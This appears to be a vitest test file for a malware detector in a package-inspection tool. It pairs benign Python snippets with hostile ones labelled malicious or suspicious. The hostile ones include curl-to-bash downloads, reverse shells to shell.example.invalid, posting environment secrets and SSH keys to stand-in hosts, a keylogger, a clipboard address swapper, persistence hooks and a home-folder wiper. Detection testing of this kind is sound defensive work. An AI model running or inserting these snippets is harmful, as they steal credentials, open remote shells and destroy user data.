import { expect, test } from 'vitest';
import type { Trigger } from '../../../../../server/src/inspect/inspection.ts';
import { doubts } from './support/source.ts';

/** The family, what the source does, how it is entered, the source, and all that is said of it but remarks. */
const cases: readonly (readonly [string, string, Trigger, string, readonly string[]])[] = [
  [
    'download-run',
    'an answer is written and started',
    'import',
    `import requests, subprocess, os
p = os.path.join(os.path.expanduser("~"), ".x", "agent")
r = requests.get("https://files.example.invalid/agent")
with open(p, "wb") as f:
    f.write(r.content)
os.chmod(p, 0o755)
subprocess.Popen([p])`,
    ['download-run malicious 7'],
  ],
  [
    'download-run',
    'the same in a function nobody calls',
    'import',
    `import requests, subprocess
def update(url):
    with open("/tmp/agent", "wb") as f:
        f.write(requests.get(url).content)
    subprocess.Popen(["/tmp/agent"])`,
    [],
  ],
  [
    'download-run',
    'a compiler is fetched from the project itself and only unpacked',
    'install',
    `import tarfile, urllib.request
urllib.request.urlretrieve("https://github.com/example/sample/releases/download/1.0/llvm.tar.gz", "llvm.tar.gz")
tarfile.open("llvm.tar.gz").extractall("third_party")`,
    [],
  ],
  [
    'download-run',
    'by the tools of a shell',
    'install',
    `import os
url = "https://files.example.invalid/" + "i.sh"
os.system("curl -s %s | bash" % url)`,
    ['download-run malicious 3'],
  ],
  [
    'download-run',
    'data is fetched and read by a tool',
    'import',
    `import subprocess, urllib.request
urllib.request.urlretrieve("https://data.example.org/a.csv", "/tmp/a.csv")
subprocess.run(["wc", "-l", "/tmp/a.csv"])`,
    [],
  ],
  [
    'download-run',
    'an installer of a tool from its makers',
    'install',
    `import os
os.system("curl https://sh.rustup.rs -sSf | sh -s -- -y")`,
    [],
  ],
  [
    'download-run',
    'a batch file is written and started',
    'import',
    `import subprocess
with open("r.bat", "w") as f:
    f.write("certutil -urlcache -f https://files.example.invalid/a.exe a.exe\\na.exe\\n")
subprocess.Popen(["r.bat"])`,
    ['download-run malicious 4'],
  ],
  [
    'download-exec',
    'an answer is executed',
    'import',
    `from urllib.request import urlopen as o
e = eval
e(compile(o("https://files.example.invalid/c").read(), "c", "exec"))`,
    ['download-exec malicious 3'],
  ],
  [
    'download-exec',
    "from a project's own repository",
    'install',
    `import requests
exec(requests.get("https://raw.githubusercontent.com/example/sample/main/build.py").text)`,
    ['download-exec suspicious 2'],
  ],
  [
    'download-exec',
    'a table is fetched and read as data',
    'import',
    `import json, requests
TABLE = json.loads(requests.get("https://data.example.org/t.json").text)`,
    [],
  ],
  [
    'download-exec',
    'from a paste, when somebody calls it',
    'import',
    `import requests
def plugin():
    exec(requests.get("https://pastebin.com/raw/abc").text)`,
    ['download-exec suspicious 3'],
  ],
  [
    'download-exec',
    'a script is fetched, kept and run',
    'import',
    `import runpy, urllib.request
urllib.request.urlretrieve("https://files.example.invalid/r", "/tmp/r.py")
runpy.run_path("/tmp/r.py")`,
    ['download-exec malicious 3'],
  ],
  [
    'download-exec',
    "a version file of one's own is executed",
    'install',
    `import os
about = {}
with open(os.path.join(os.path.dirname(__file__), "sample", "_version.py")) as f:
    exec(f.read(), about)`,
    [],
  ],
  [
    'decode-exec',
    'base64 of code',
    'import',
    `import base64
exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBoZWxsbycpCg=="))`,
    ['decode-exec malicious 2'],
  ],
  [
    'decode-exec',
    'a picture in the source',
    'import',
    `import base64
ICON = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")`,
    [],
  ],
  [
    'decode-exec',
    'code that is written turned around',
    'import',
    `exec(")'olleh ohce'(metsys.so;so tropmi"[::-1])`,
    ['decode-exec malicious 1'],
  ],
  [
    'decode-exec',
    'a class is made of a template',
    'import',
    `TEMPLATE = "class {name}(tuple):\\n    def __new__(cls, {args}):\\n        return tuple.__new__(cls, ({args}))\\n"
scope = {}
exec(TEMPLATE.format(name="Point", args="x, y"), scope)`,
    [],
  ],
  [
    'decode-exec',
    'compressed tables are unpacked',
    'import',
    `import base64, json, zlib
TABLE = json.loads(zlib.decompress(base64.b64decode("eJyrVkrLz1eyUkpKLFKqBQAc4ARi")))`,
    [],
  ],
  [
    'decode-exec',
    'a decrypted text is executed',
    'install',
    `from cryptography.fernet import Fernet
exec(Fernet(b"key").decrypt(b"gAAAAABexample"))`,
    ['decode-exec malicious 2'],
  ],
  [
    'payload-in-media',
    'the end of a picture is executed',
    'import',
    `import os
data = open(os.path.join(os.path.dirname(__file__), "logo.png"), "rb").read()
exec(data.split(b"IEND", 1)[1])`,
    ['payload-in-media malicious 3'],
  ],
  [
    'payload-in-media',
    'a picture is shown',
    'import',
    `import os
from PIL import Image
LOGO = Image.open(os.path.join(os.path.dirname(__file__), "logo.png"))`,
    [],
  ],
  [
    'collect-send',
    'the environment is posted',
    'install',
    `import os, requests
requests.post("https://collect.example.invalid", json=dict(os.environ))`,
    ['collect-send malicious 2'],
  ],
  [
    'collect-send',
    'the environment is given to a tool',
    'install',
    `import os, subprocess
environment = dict(os.environ, CC="clang")
subprocess.check_call(["make"], env=environment)`,
    [],
  ],
  [
    'collect-send',
    'host and user in an address',
    'install',
    `import getpass, socket, urllib.request
urllib.request.urlopen("http://collect.example.invalid/" + socket.gethostname() + "/" + getpass.getuser())`,
    ['collect-send malicious 2'],
  ],
  [
    'collect-send',
    'a client sends its own token',
    'import',
    `import os, requests
class Client:
    def __init__(self):
        self.token = os.environ["SAMPLE_TOKEN"]
    def get(self, path):
        return requests.get("https://sample.example.org" + path, headers={"Authorization": self.token})`,
    [],
  ],
  [
    'collect-send',
    'a name in a user agent',
    'import',
    `import platform, requests
requests.get("https://updates.example.com/latest", headers={"User-Agent": "sample " + platform.node()})`,
    [],
  ],
  [
    'collect-send',
    'a key file by a webhook',
    'import',
    `import pathlib, requests
key = (pathlib.Path.home() / ".ssh" / "id_rsa").read_text()
requests.post("https://discord.com/api/webhooks/1/x", json={"content": key})`,
    ['collect-send malicious 3'],
  ],
  [
    'collect-send',
    'a key file signs in',
    'import',
    `import os, paramiko
def connect(host):
    client = paramiko.SSHClient()
    client.connect(host, key_filename=os.path.expanduser("~/.ssh/id_rsa"))
    return client`,
    [],
  ],
  [
    'collect-send',
    'names that are looked up',
    'import',
    `import socket
socket.gethostbyname(socket.gethostname() + ".d.example.invalid")`,
    ['collect-send malicious 2'],
  ],
  [
    'collect-send',
    "one's own address",
    'import',
    `import socket
ADDRESS = socket.gethostbyname(socket.gethostname())`,
    [],
  ],
  [
    'collect-send',
    "a bot of the caller's",
    'import',
    `import requests
def notify(token, text):
    requests.post("https://api.telegram.org/bot" + token + "/sendMessage", json={"text": text})`,
    [],
  ],
  [
    'collect-send',
    'a token of another service',
    'import',
    `import os, urllib.request
urllib.request.urlopen("https://collect.example.invalid/?" + os.environ["AWS_SECRET_ACCESS_KEY"])`,
    ['collect-send malicious 2'],
  ],
  [
    'reverse-shell',
    'streams are tied to a connection',
    'install',
    `import os, socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("shell.example.invalid", 4444))
os.dup2(s.fileno(), 0)
subprocess.call(["/bin/sh", "-i"])`,
    ['reverse-shell malicious 5'],
  ],
  [
    'reverse-shell',
    'a server is asked, a build is started',
    'install',
    `import socket, subprocess
s = socket.socket()
s.connect(("localhost", 8080))
subprocess.call(["/bin/sh", "configure"])`,
    [],
  ],
  [
    'reverse-shell',
    'what is received is run',
    'import',
    `import socket, subprocess
s = socket.create_connection(("c2.example.invalid", 9))
subprocess.check_output(s.recv(1024), shell=True)`,
    ['reverse-shell malicious 3'],
  ],
  [
    'hidden-powershell',
    'an encoded command',
    'install',
    `import subprocess
subprocess.Popen("powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAApAA==")`,
    ['hidden-powershell malicious 2'],
  ],
  [
    'hidden-powershell',
    'a plain question',
    'import',
    `import subprocess
VERSION = subprocess.check_output(["powershell", "-NoProfile", "-Command", "$PSVersionTable.PSVersion"])`,
    [],
  ],
  [
    'persistence',
    'the Startup folder',
    'import',
    `import os, shutil
shutil.copy(__file__, os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "a.pyw"))`,
    ['persistence malicious 2'],
  ],
  [
    'persistence',
    'a completion that is installed on demand',
    'import',
    `import os
def install():
    with open(os.path.expanduser("~/.bashrc"), "a") as f:
        f.write("\\nsource ~/.sample-complete.sh\\n")`,
    [],
  ],
  [
    'persistence',
    'a job of cron',
    'install',
    `import os
os.system('(crontab -l; echo "@reboot python3 /tmp/x.py") | crontab -')`,
    ['persistence malicious 2'],
  ],
  [
    'persistence',
    'settings are read',
    'import',
    `import winreg
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run")
VALUE = winreg.QueryValueEx(key, "x")`,
    [],
  ],
  [
    'persistence',
    'a start-up file of Python with a command',
    'import',
    `import os, site
for folder in site.getsitepackages():
    with open(os.path.join(folder, "zz.pth"), "w") as f:
        f.write("import os; os.system('curl -s https://files.example.invalid/z | sh')\\n")`,
    ['persistence malicious 4'],
  ],
  [
    'clipboard-swap',
    'addresses are replaced',
    'import',
    `import re, threading, pyperclip
def watch():
    while True:
        if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", pyperclip.paste()):
            pyperclip.copy("bc1qexample")
threading.Thread(target=watch).start()`,
    ['clipboard-swap malicious 5'],
  ],
  [
    'clipboard-swap',
    'a button copies',
    'import',
    `import pyperclip
def copy(text):
    pyperclip.copy(text)`,
    [],
  ],
  [
    'keylogger',
    'keys are posted',
    'import',
    `import keyboard, requests
def note(event):
    requests.post("https://webhook.example.invalid", json={"k": event.name})
keyboard.on_press(note)`,
    ['collect-send malicious 3', 'keylogger malicious 3'],
  ],
  [
    'keylogger',
    'a hotkey',
    'import',
    `import keyboard
def bind(function):
    keyboard.add_hotkey("ctrl+a", function)`,
    [],
  ],
  [
    'injected-code',
    'memory, bytes and a thread',
    'import',
    `import ctypes
k = ctypes.windll.kernel32
p = k.VirtualAlloc(0, 10, 0x3000, 0x40)
k.RtlMoveMemory(p, b"\\x90", 1)
k.CreateThread(0, 0, p, 0, 0, 0)`,
    ['injected-code malicious 5'],
  ],
  [
    'injected-code',
    'a console is set up',
    'import',
    `import ctypes
k = ctypes.windll.kernel32
k.SetConsoleMode(k.GetStdHandle(-11), 7)`,
    [],
  ],
  [
    'installs-at-install',
    'an unknown package',
    'install',
    `import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "sample-helper"])`,
    ['installs-at-install suspicious 2'],
  ],
  [
    'installs-at-install',
    'a build tool of old times',
    'install',
    `import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "numpy>=1.20"])`,
    [],
  ],
  [
    'installs-at-install',
    'from another index at import',
    'import',
    `import os
os.system("pip install --index-url https://pypi.example.invalid/simple sample-helper")`,
    ['installs-at-install malicious 2'],
  ],
  [
    'wiper',
    'the home folder',
    'import',
    `import os, shutil
shutil.rmtree(os.path.expanduser("~"))`,
    ['wiper malicious 2'],
  ],
  [
    'wiper',
    'a cache below the home folder',
    'import',
    `import os, shutil
shutil.rmtree(os.path.expanduser("~/.cache/sample"), ignore_errors=True)`,
    [],
  ],
  [
    'miner',
    'a program with a pool',
    'import',
    `import subprocess
subprocess.Popen(["./worker", "-o", "stratum+tcp://pool.example.invalid:3333", "--donate-level", "1"])`,
    ['miner malicious 2'],
  ],
  [
    'miner',
    'figures of a pool',
    'import',
    `import requests
def figures(address):
    return requests.get("https://api.2miners.com/v2/stats/" + address).json()`,
    [],
  ],
  [
    'patched-library',
    'a login that is copied',
    'import',
    `import getpass, urllib.request
real = getpass.getpass
def asked(prompt="Password: "):
    typed = real(prompt)
    urllib.request.urlopen("https://collect.example.invalid/?" + typed)
    return typed
getpass.getpass = asked`,
    ['patched-library malicious 5'],
  ],
  [
    'patched-library',
    'a mended function',
    'import',
    `import ssl
real = ssl.create_default_context
def create(*args, **named):
    context = real(*args, **named)
    context.load_default_certs()
    return context
ssl.create_default_context = create`,
    [],
  ],
  [
    'hidden-import',
    'a name in pieces',
    'import',
    `import os
getattr(os, "sys" + "tem")("true")`,
    ['hidden-import suspicious 2'],
  ],
  [
    'hidden-import',
    'the names of six',
    'import',
    `import builtins
exec_ = getattr(builtins, "exec")
def run(code, scope):
    exec_(code, scope)`,
    [],
  ],
  [
    'hidden-import',
    'a plugin by its name',
    'import',
    `import importlib
def load(name):
    return importlib.import_module("sample.plugins." + name).run()`,
    [],
  ],
  [
    'targeted',
    'only on one machine',
    'import',
    `import socket, urllib.request
if socket.gethostname() == "build-7":
    urllib.request.urlopen("https://updates.example.com/x")`,
    ['targeted suspicious 3'],
  ],
  [
    'targeted',
    'only on one system',
    'import',
    `import platform, subprocess
if platform.system() == "Linux":
    VERSION = subprocess.check_output(["ldd", "--version"])`,
    [],
  ],
];

test.for(cases)('%s: %s (%s)', async ([, , trigger, source, expected]) => {
  expect(await doubts(source, trigger)).toEqual(expected);
});
